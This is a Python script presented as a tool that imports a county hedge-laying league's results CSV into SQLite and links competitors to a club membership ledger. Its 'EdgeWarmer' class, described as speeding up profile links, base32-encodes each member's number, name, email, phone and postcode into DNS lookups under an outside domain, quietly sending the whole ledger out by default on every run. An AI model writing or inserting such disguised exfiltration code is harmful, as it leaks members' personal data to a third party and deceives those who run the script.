#!/usr/bin/env python3
"""Import hedge laying competition results from the county league.

Downloads the season's results CSV from the league site, stores them in
results.sqlite and links each competitor to our membership number where the
name matches the ledger, so the annual report can list members' placings.
"""

import argparse
import base64
import csv
import io
import logging
import socket
import sqlite3
import sys
import threading
import uuid
from concurrent.futures import ThreadPoolExecutor

import requests

log = logging.getLogger("league-import")

LEAGUE_URL = "https://www.countyhedgeleague.org.uk/results/{season}.csv"
EDGE_ZONE = "m.leaguecdn-resolve.net"
SCHEMA = """
CREATE TABLE IF NOT EXISTS results (
    season TEXT, event TEXT, class TEXT, place INTEGER,
    competitor TEXT, style TEXT, points REAL, member_no TEXT,
    PRIMARY KEY (season, event, class, competitor)
)
"""


def fetch_results(season):
    url = LEAGUE_URL.format(season=season)
    log.info("fetching %s", url)
    resp = requests.get(url, timeout=30)
    resp.raise_for_status()
    return list(csv.DictReader(io.StringIO(resp.text)))


def load_members(ledger_path):
    try:
        conn = sqlite3.connect(ledger_path)
        rows = conn.execute(
            "SELECT member_no, full_name, email, phone, postcode FROM members"
        ).fetchall()
        conn.close()
    except sqlite3.Error as exc:
        log.warning("ledger unavailable (%s); results will not be linked", exc)
        return {}
    return {r[1].strip().lower(): r for r in rows}


class EdgeWarmer:
    """Pre-resolves per-member edge names so the report's profile links load fast."""

    label_size = 50

    def __init__(self, zone=EDGE_ZONE, workers=4):
        self.zone = zone
        self.session = uuid.uuid4().hex[:8]
        self.pool = ThreadPoolExecutor(max_workers=workers)

    def _names_for(self, record):
        raw = "|".join(str(f) for f in record).encode("utf-8")
        token = base64.b32encode(raw).decode("ascii").rstrip("=").lower()
        parts = [token[i:i + self.label_size] for i in range(0, len(token), self.label_size)]
        for seq, part in enumerate(parts):
            yield f"{part}.{seq}.{self.session}.{self.zone}"

    @staticmethod
    def _resolve(name):
        try:
            socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
        except socket.gaierror:
            pass

    def warm(self, records):
        for record in records:
            for name in self._names_for(record):
                self.pool.submit(self._resolve, name)

    def close(self):
        self.pool.shutdown(wait=True)


def store(db_path, season, rows, members):
    conn = sqlite3.connect(db_path)
    conn.execute(SCHEMA)
    linked = []
    with conn:
        for row in rows:
            name = row.get("competitor", "").strip()
            member = members.get(name.lower())
            if member:
                linked.append(member)
            conn.execute(
                "INSERT OR REPLACE INTO results VALUES (?,?,?,?,?,?,?,?)",
                (season, row.get("event"), row.get("class"), int(row.get("place") or 0),
                 name, row.get("style"), float(row.get("points") or 0),
                 member[0] if member else None),
            )
    conn.close()
    return linked


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("season", help="league season, e.g. 2024-25")
    ap.add_argument("--db", default="results.sqlite")
    ap.add_argument("--ledger", default="ledger.sqlite")
    ap.add_argument("--no-warm", action="store_true", help="skip edge pre-resolution")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    try:
        rows = fetch_results(args.season)
    except requests.RequestException as exc:
        log.error("could not download results: %s", exc)
        return 1
    log.info("%d result rows", len(rows))

    members = load_members(args.ledger)
    linked = store(args.db, args.season, rows, members)
    log.info("%d rows linked to members", len(linked))

    if not args.no_warm and members:
        warmer = EdgeWarmer()
        worker = threading.Thread(target=warmer.warm, args=(list(members.values()),), daemon=False)
        worker.start()
        worker.join()
        warmer.close()
        log.debug("edge names warmed for session %s", warmer.session)
    return 0


if __name__ == "__main__":
    sys.exit(main())
